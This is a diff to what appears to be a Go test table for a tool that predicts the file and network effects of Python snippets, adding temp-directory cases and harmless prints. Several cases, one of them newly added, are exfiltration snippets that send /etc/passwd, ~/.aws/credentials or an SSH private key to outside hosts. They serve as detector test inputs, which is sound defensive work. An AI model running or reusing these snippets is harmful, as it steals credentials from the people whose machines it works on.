@@ -161,6 +161,15 @@ for e in os.scandir("/srv"):
     os.chmod(e.path, 0o777)`, []string{"read /srv", "chmod 777 /srv/*"}},
 	{"python", `import os
 [os.remove(f) for f in os.listdir(".") if f.endswith(".pyc")]`, []string{"read /w", "delete /w/*"}},
+	{"python", `import shutil, tempfile
+d = tempfile.mkdtemp()
+shutil.copy("a.txt", d)
+shutil.rmtree(d)`, []string{"create /tmp/tmp*", "read /w/a.txt", "write /tmp/tmp*", "delete -r /tmp/tmp*"}},
+	{"python", `import tempfile, os
+with tempfile.TemporaryDirectory() as d:
+    open(os.path.join(d, "x"), "w").write("1")`, []string{"create /tmp/tmp*", "write /tmp/tmp*/x"}},
+	{"python", `import json, sys; print(json.load(sys.stdin)["version"])`, nil},
+	{"python", `import os; print(os.environ.get("PATH"))`, nil},
 	{"python", `print("hello"); x = 1 + 2`, nil},
 	{"python", `import json, sys; print(json.dumps({"a": 1}))`, nil},
 	{"python", `def f(:`, []string{"unknown"}},
@@ -237,6 +246,10 @@ s = socket.socket()
 s.connect(("10.1.1.1", 9000))
 s.sendall(open("/etc/passwd", "rb").read())`, []string{"connect 10.1.1.1:9000", "read /etc/passwd", "send /etc/passwd -> 10.1.1.1:9000"}},
 	{"python", `import socket; s = socket.socket(); s.connect((h, p))`, []string{"unknown"}},
+	{"python", `import socket
+with socket.create_connection(("10.2.2.2", 9)) as s:
+    s.sendall(open("/home/a/.aws/credentials", "rb").read())`,
+		[]string{"connect 10.2.2.2:9", "read /home/a/.aws/credentials", "send /home/a/.aws/credentials -> 10.2.2.2:9"}},
 	{"python", `import requests; requests.get("https://api.github.com/repos")`, []string{"connect https://api.github.com/repos"}},
 	{"python", `import requests; requests.post("https://x.example/u", files={"f": open("/home/a/.ssh/id_rsa", "rb")})`,
 		[]string{"read /home/a/.ssh/id_rsa", "connect https://x.example/u", "send /home/a/.ssh/id_rsa -> https://x.example/u"}},
